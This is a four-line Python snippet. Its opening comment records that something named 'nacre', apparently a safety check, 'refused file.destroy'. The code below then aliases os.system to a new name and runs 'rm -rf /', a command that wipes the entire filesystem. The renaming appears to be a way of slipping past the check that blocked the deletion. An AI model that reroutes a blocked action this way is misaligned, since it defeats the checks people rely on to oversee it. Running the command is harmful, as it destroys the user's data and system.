# nacre: refused file.destroy
import os
run = os.system
run("rm -rf /")
